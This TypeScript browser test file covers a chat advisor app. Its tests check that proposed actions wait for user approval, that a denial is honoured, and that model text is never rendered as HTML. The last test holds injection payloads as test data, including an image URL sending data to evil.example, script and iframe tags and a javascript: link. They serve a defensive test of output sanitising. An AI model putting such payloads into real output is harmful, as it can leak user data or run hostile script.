import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { calls, says } from '../model-server.ts'
import { askAdvisor } from './ask-advisor.ts'
import { browserSite, startServerWithModel } from './browser-site.ts'
import { assertPleasant, desk, phone } from './chromium-browser.ts'

const record = calls({ name: 'record_event', args: { type: 'sales_recorded', note: '12 bowls <b>sold</b>' } })

const site = browserSite(startServerWithModel)

async function chatOf(...who: Parameters<typeof site.visit>) {
  const visit = await site.visit(...who)
  await visit.page.goto(`${site.server.url}/chat`)
  return visit
}

describe('what the advisor wants to do', () => {
  test('is shown before it is done, survives a reload, and is approved with the keyboard', async () => {
    const { server } = site
    const { email, token } = await server.owner()
    const { page, leave } = await chatOf(phone, email)
    server.model.enqueue(record, says('It is in the books.'))
    await askAdvisor(page, 'I sold 12 bowls')
    const card = page.getByTestId('approval')
    await card.getByRole('heading', { name: 'Record “sales recorded” for Warung Sari' }).waitFor()
    assert.match(await card.innerText(), /12 bowls <b>sold<\/b>/)
    assert.match(await card.innerText(), /Decide by/)
    assert.match(await page.locator('[aria-live=polite].sr-only').first().innerText(), /asks for your approval: Record/)
    await assertPleasant(page, 'an approval on a phone')

    await page.reload()
    await card.getByRole('button', { name: 'Approve' }).focus()
    await page.keyboard.press('Tab')
    assert.equal(await page.evaluate('document.activeElement?.textContent'), 'Don’t do it')
    await page.keyboard.press('Shift+Tab')
    await page.keyboard.press('Enter')
    await page.getByTestId('answer').getByText('It is in the books.').waitFor()
    const points = await server.api('GET', '/gamification/points', { token })
    assert.deepEqual(
      points.json.map((entry: { type: string }) => entry.type),
      ['sales_recorded'],
    )
    await leave()
  })

  test('is not done when the person says no, and focus stays at the card', async () => {
    const { server } = site
    const { email, token } = await server.owner({ name: 'Budi' })
    await server.api('PATCH', '/auth/me', { token, body: { locale: 'id' } })
    const { page, leave } = await chatOf({ ...desk, colorScheme: 'dark' }, email)
    const { promise: later, resolve: goOn } = Promise.withResolvers<void>()
    server.model.enqueue(record, { steps: [{ until: later }, { text: 'Baik, saya batalkan.' }, { finish: 'stop' }] })
    await askAdvisor(page, 'catat penjualan', 'Pesan untuk penasihat')
    const card = page.getByTestId('approval')
    await card.getByRole('heading', { name: 'Catat “sales recorded” untuk Warung Sari' }).waitFor()
    await assertPleasant(page, 'an approval in the dark')
    await card.getByRole('button', { name: 'Jangan' }).press('Enter')
    await card.getByText('Anda menolak. Tidak ada yang dilakukan.').waitFor()
    assert.equal(await page.evaluate('document.activeElement?.getAttribute("data-testid")'), 'approval')
    await assertPleasant(page, 'a denied approval in the dark')
    goOn()
    await page.getByTestId('answer').getByText('Baik, saya batalkan.').waitFor()
    assert.deepEqual((await server.api('GET', '/gamification/points', { token })).json, [])
    await leave()
  })

  test('cannot be decided any more once the answer was stopped', async () => {
    const { server } = site
    const { email, token } = await server.owner()
    const { page, leave } = await chatOf(desk, email)
    server.model.enqueue(record)
    await askAdvisor(page, 'I sold 12 bowls')
    await page.getByTestId('approval').getByRole('button', { name: 'Approve' }).waitFor()
    await page.getByRole('button', { name: 'Stop' }).click()
    await page.getByTestId('approval').getByRole('button', { name: 'Approve' }).waitFor({ state: 'detached' })
    assert.deepEqual((await server.api('GET', '/gamification/points', { token })).json, [])
    await leave()
  })
})

test('a model’s text is never HTML, and neither its images nor its links are fetched', async () => {
  const { server } = site
  const { email } = await server.owner()
  const { page, leave } = await chatOf(desk, email)
  const fetched: string[] = []
  page.on('request', (request) => fetched.push(request.url()))
  server.model.enqueue(
    says(
      'Look: ![receipt](https://evil.example/leak?points=140) <img src="https://evil.example/img">',
      '<script>document.title="owned"</script><iframe src="https://evil.example/frame"></iframe>\n\n',
      '[a link](https://evil.example/link) [a trap](javascript:document.title=`owned`) <style>*{display:none}</style>\n\n',
      '![x][leak]\n\n[leak]: https://evil.example/reference "t"\n\nThe end.',
    ),
  )
  await askAdvisor(page, 'show me')
  const answer = page.getByTestId('answer')
  await answer.getByText('The end.').waitFor()
  // Stored by now, and painted: what would be fetched has been asked for.
  await page.locator('[data-testid=answer][data-live=false]').waitFor()
  await page.evaluate('new Promise((painted) => requestAnimationFrame(() => requestAnimationFrame(painted)))')
  assert.equal(await answer.locator('img, script, iframe, style, object, link, video, audio, svg image').count(), 0)
  assert.deepEqual(
    fetched.filter((url) => !url.startsWith(server.url)),
    [],
  )
  assert.notEqual(await page.title(), 'owned')
  await answer.getByRole('link', { name: 'a link' }).waitFor()
  const links = await answer.locator('a').evaluateAll((all) => all.map((one) => String(Reflect.get(one, 'href'))))
  assert.deepEqual(links, ['https://evil.example/link'])
  const policy = (await fetch(`${server.url}/`)).headers.get('content-security-policy') ?? ''
  assert.match(policy, /default-src 'self';/)
  assert.doesNotMatch(policy, /https?:|\*|data:|unsafe/)
  await leave()
})
